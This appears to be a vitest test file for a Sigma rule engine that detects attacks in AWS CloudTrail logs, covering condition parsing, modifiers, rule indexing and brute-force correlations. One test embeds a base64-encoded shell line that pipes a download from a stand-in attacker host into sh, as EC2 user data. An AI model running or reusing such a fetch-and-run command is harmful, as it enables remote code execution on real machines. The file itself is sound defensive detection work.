import { describe, expect, it } from 'vitest';
import { testData } from '../../../../test/support/stores.js';
import { ct, user } from '../../../providers/aws/detectors/common.js';
import { parseCondition } from './condition.js';
import { listLocal, readObject } from '../reader.js';
import { normaliseCloudTrail } from '../../../providers/aws/logs/aws-cloudtrail.source.js';
import { SigmaRunner, sigmaRuleId } from './engine.js';
import { compileSigmaTexts, loadSigmaDirs } from './load.js';

const rule = (detection: string, extra = '') => `title: T
id: r1
level: high
tags: [attack.defense-evasion, attack.t1562.008]
logsource: { product: aws, service: cloudtrail }
detection:
${detection}
${extra}`;

function matches(detection: string, rec: Record<string, unknown>): boolean {
  const set = compileSigmaTexts([{ file: 't.yml', text: rule(detection) }]);
  expect(set.unsupported).toEqual([]);
  return new SigmaRunner(set).push(ct(rec)).length > 0;
}

describe('SigmaHQ AWS CloudTrail rules', () => {
  it('loads all 57 rules with nothing unsupported', async () => {
    const set = await loadSigmaDirs([testData('sigma-cloud-rules/rules/cloud/aws')]);
    expect(set.unsupported).toEqual([]);
    expect(set.rules).toHaveLength(57);
    expect(set.rules.every((r) => r.attack.every((a) => /^T\d{4}(\.\d{3})?$/.test(a)))).toBe(true);
  });
  it('skips (counts) rules for other clouds and loads the whole cloud folder without unsupported rules', async () => {
    const set = await loadSigmaDirs([testData('sigma-cloud-rules/rules/cloud')]);
    expect(set.rules).toHaveLength(57);
    expect(set.skipped).toBeGreaterThan(100);
    expect(set.unsupported).toEqual([]);
  });
  it('fires the StopLogging rule on a StopLogging event with level and ATT&CK ids', async () => {
    const set = await loadSigmaDirs([testData('sigma-cloud-rules/rules/cloud/aws')]);
    const hits = new SigmaRunner(set).push(ct({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging', requestParameters: { name: 't' } }));
    const ids = hits.map((h) => h.detectorId);
    expect(ids).toContain('sigma-4db60cc0-36fb-42b7-9b58-a5b53019fb74');
    expect(hits.find((h) => h.detectorId === 'sigma-4db60cc0-36fb-42b7-9b58-a5b53019fb74')?.severity).toBe('medium');
  });
});

describe('conditions', () => {
  it('parses precedence: not > and > or, and parentheses', () => {
    expect(parseCondition('a or b and not c')).toEqual({
      kind: 'or',
      nodes: [
        { kind: 'ref', name: 'a' },
        {
          kind: 'and',
          nodes: [
            { kind: 'ref', name: 'b' },
            { kind: 'not', node: { kind: 'ref', name: 'c' } },
          ],
        },
      ],
    });
    expect(parseCondition('(a or b) and 1 of sel_*')).toMatchObject({
      kind: 'and',
      nodes: [{ kind: 'or' }, { kind: 'of', quantifier: 'one', pattern: 'sel_*' }],
    });
  });
  it('evaluates 1 of / all of them / not', () => {
    const d = `    sel_a: { eventName: StopLogging }
    sel_b: { eventName: DeleteTrail }
    filter: { userAgent|contains: terraform }
    condition: 1 of sel_* and not filter`;
    expect(matches(d, { eventSource: 'cloudtrail.amazonaws.com', eventName: 'DeleteTrail' })).toBe(true);
    expect(matches(d, { eventSource: 'cloudtrail.amazonaws.com', eventName: 'DeleteTrail', userAgent: 'Terraform/1.6' })).toBe(false);
    expect(
      matches(`    a: { eventName: X }\n    b: { eventSource: 'iam.amazonaws.com' }\n    condition: all of them`, {
        eventSource: 'iam.amazonaws.com',
        eventName: 'X',
      }),
    ).toBe(true);
  });
  it('reports an unknown identifier and deprecated aggregations as unsupported, naming the file', () => {
    const set = compileSigmaTexts([
      { file: 'bad1.yml', text: rule('    sel: { eventName: X }\n    condition: nope') },
      { file: 'bad2.yml', text: rule('    sel: { eventName: X }\n    condition: sel | count() > 5') },
      { file: 'bad3.yml', text: rule("    sel: { 'eventName|expand': X }\n    condition: sel") },
    ]);
    expect(set.rules).toHaveLength(0);
    expect(set.unsupported.map((u) => u.file)).toEqual(['bad1.yml', 'bad2.yml', 'bad3.yml']);
    expect(set.unsupported[2]?.reason).toMatch(/modifier "expand"/);
  });
});

describe('modifiers and values', () => {
  const ev = {
    eventSource: 'iam.amazonaws.com',
    eventName: 'CreateAccessKey',
    sourceIPAddress: '10.1.2.3',
    userAgent: 'aws-cli/2.0 S3 Browser',
    requestParameters: { userName: 'Alice', count: 7, list: ['a', 'b'] },
  };
  it.each([
    ["eventName: 'createaccesskey'", true], // case-insensitive equality
    ["eventName: 'Create*Key'", true],
    ["eventName: 'Create?ccessKey'", true],
    ["eventName: 'Create'", false],
    ["userAgent|contains: 's3 browser'", true],
    ["userAgent|startswith: 'aws-cli'", true],
    ["userAgent|endswith: 'Browser'", true],
    ["userAgent|contains|all: ['aws-cli', 'Browser']", true],
    ["userAgent|contains|all: ['aws-cli', 'Firefox']", false],
    ["userAgent|re: '^aws-cli/\\d'", true],
    ["sourceIPAddress|cidr: '10.0.0.0/8'", true],
    ["sourceIPAddress|cidr: '192.168.0.0/16'", false],
    ['requestParameters.count|gt: 5', true],
    ['requestParameters.count|lte: 6', false],
    ['requestParameters.userName|exists: true', true],
    ['requestParameters.missing|exists: true', false],
    ['errorCode: null', true],
    ["requestParameters.list: 'b'", true],
    ["eventName|base64: 'CreateAccessKey'", false],
    ['requestParameters.userName|fieldref: requestParameters.userName', true],
  ])('%s → %s', (sel, expected) => {
    expect(matches(`    sel:\n      ${sel}\n    condition: sel`, ev)).toBe(expected);
  });
  it('base64offset finds an encoded value inside a base64 field', () => {
    const blob = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n').toString('base64');
    expect(
      matches("    sel:\n      requestParameters.userData|base64offset|contains: 'curl http'\n    condition: sel", {
        eventSource: 'ec2.amazonaws.com',
        eventName: 'RunInstances',
        requestParameters: { userData: blob },
      }),
    ).toBe(true);
  });
  it('a list of maps is OR, keys inside one map are AND', () => {
    const d = `    sel:\n      - { eventName: A, eventSource: 'x.amazonaws.com' }\n      - { eventName: CreateAccessKey }\n    condition: sel`;
    expect(matches(d, ev)).toBe(true);
  });
});

describe('rule index', () => {
  it('fires exactly the rules whose predicate holds, on every Stratus detonation event and some odd ones', async () => {
    const set = await loadSigmaDirs([testData('sigma-cloud-rules/rules/cloud/aws')]);
    // Every rule but the one regex rule is indexed on some field.
    expect(set.rules.filter((r) => !r.index).length).toBeLessThanOrEqual(1);
    const runner = new SigmaRunner(set);
    const dir = testData('stratus-red-team/docs/detonation-logs');
    const events = [];
    for (const obj of await listLocal(dir)) for await (const item of readObject(obj)) if (item.ok) events.push(normaliseCloudTrail(item.value));
    events.push(
      ct({ eventSource: 'sts.amazonaws.com', eventName: 'GetCallerIdentity', userAgent: 'trufflehog' }),
      ct({ eventSource: 'LAMBDA.amazonaws.com', eventName: 'UpdateFunctionConfiguration20150331v2', requestParameters: { layers: ['x'] } }),
      ct({ eventSource: 'iam.amazonaws.com', eventName: 'createaccesskey', userIdentity: { type: 'root', arn: 'arn:aws:iam::1:root' } }),
      ct({ eventSource: 'ec2.amazonaws.com', eventName: 'X', userIdentity: { type: ['Root'] } }),
    );
    expect(events.length).toBeGreaterThan(100);
    let fired = 0;
    for (const e of events) {
      const want = set.rules.filter((r) => r.predicate(e.raw)).map((r) => sigmaRuleId(r.id));
      const got = runner.push(e).map((h) => h.detectorId);
      expect(got.sort()).toEqual(want.sort());
      fired += got.length;
    }
    expect(fired).toBeGreaterThan(20);
  });
  it.each([
    ['.+:assumed-role/aws:.+', 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1', true],
    ['.+:assumed-role/aws:.+', ':assumed-role/aws:x', false],
    ['.+:assumed-role/aws:.+', 'x:assumed-role/aws:', false],
    ['.+:assumed-role/aws:.+', 'x\n:assumed-role/aws:y', false],
    ['.+:assumed-role/aws:.+', 'x\n:assumed-role/aws:y:assumed-role/aws:z', true],
    ['assumed-role\\/aws', 'arn:assumed-role/aws', true],
    ['ASSUMED', 'assumed', false],
    ['a.c', 'abc', true],
  ])('a literal regex %s searched as a string agrees with the regex on %s', (re, value, expected) => {
    const text = rule(`    sel:\n      userAgent|re: '${re}'\n    condition: sel`);
    const set = compileSigmaTexts([{ file: 't.yml', text }]);
    const rec = { eventSource: 'x.amazonaws.com', eventName: 'Y', userAgent: value.replace('\\n', '\n') };
    expect(set.rules[0]?.predicate(rec)).toBe(expected);
  });
});

describe('correlations', () => {
  const base = `title: Failed login
id: 11111111-0000-0000-0000-000000000001
name: failed_login
level: low
logsource: { product: aws, service: cloudtrail }
detection:
  sel: { eventName: ConsoleLogin, responseElements.ConsoleLogin: Failure }
  condition: sel
`;
  const login = (t: string, name: string, ip = '203.0.113.9') =>
    ct({
      eventTime: t,
      eventSource: 'signin.amazonaws.com',
      eventName: 'ConsoleLogin',
      sourceIPAddress: ip,
      userIdentity: user(name),
      responseElements: { ConsoleLogin: 'Failure' },
    });
  const at = (m: number) => new Date(Date.parse('2026-11-18T10:00:00Z') + m * 60_000).toISOString();

  it('event_count fires once the count is reached within the timespan, per group, and suppresses the base rule', () => {
    const set = compileSigmaTexts([
      {
        file: 'c.yml',
        text: `${base}---
title: Brute force
id: 22222222-0000-0000-0000-000000000002
level: high
tags: [attack.t1110]
correlation:
  type: event_count
  rules: [failed_login]
  group-by: [sourceIPAddress]
  timespan: 10m
  condition: { gte: 3 }
`,
      },
    ]);
    expect(set.unsupported).toEqual([]);
    const r = new SigmaRunner(set);
    const hits = [login(at(0), 'a'), login(at(1), 'b'), login(at(30), 'c'), login(at(31), 'd'), login(at(32), 'e')].flatMap((e) => r.push(e));
    expect(hits.map((h) => h.detectorId)).toEqual(['sigma-22222222-0000-0000-0000-000000000002']);
    expect(hits[0]?.evidence).toHaveLength(3);
    expect(hits[0]?.severity).toBe('high');
  });
  it('value_count counts distinct values of a field', () => {
    const set = compileSigmaTexts([
      {
        file: 'c.yml',
        text: `${base}---
title: Spraying
id: 33333333-0000-0000-0000-000000000003
level: medium
correlation:
  type: value_count
  rules: [failed_login]
  group-by: [sourceIPAddress]
  timespan: 1h
  condition: { gte: 3, field: userIdentity.userName }
`,
      },
    ]);
    const r = new SigmaRunner(set);
    expect([login(at(0), 'a'), login(at(1), 'a'), login(at(2), 'b')].flatMap((e) => r.push(e))).toHaveLength(0);
    expect(r.push(login(at(3), 'c'))).toHaveLength(1);
  });
  it('temporal needs every rule within the span', () => {
    const set = compileSigmaTexts([
      {
        file: 'c.yml',
        text: `${base}---
title: Key made
id: 44444444-0000-0000-0000-000000000004
name: key_made
level: low
logsource: { product: aws, service: cloudtrail }
detection:
  sel: { eventName: CreateAccessKey }
  condition: sel
---
title: Fail then key
id: 55555555-0000-0000-0000-000000000005
level: high
correlation:
  type: temporal
  rules: [failed_login, key_made]
  group-by: [sourceIPAddress]
  timespan: 15m
`,
      },
    ]);
    const r = new SigmaRunner(set);
    expect(r.push(login(at(0), 'a'))).toHaveLength(0);
    const key = ct({ eventTime: at(5), eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey', sourceIPAddress: '203.0.113.9' });
    expect(r.push(key).map((h) => h.detectorId)).toEqual(['sigma-55555555-0000-0000-0000-000000000005']);
  });
  it('reports a correlation naming an unknown rule', () => {
    const set = compileSigmaTexts([
      { file: 'c.yml', text: 'title: X\nid: x\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 5m\n  condition: { gte: 2 }\n' },
    ]);
    expect(set.unsupported[0]?.reason).toMatch(/unknown rule\(s\): nope/);
  });
});
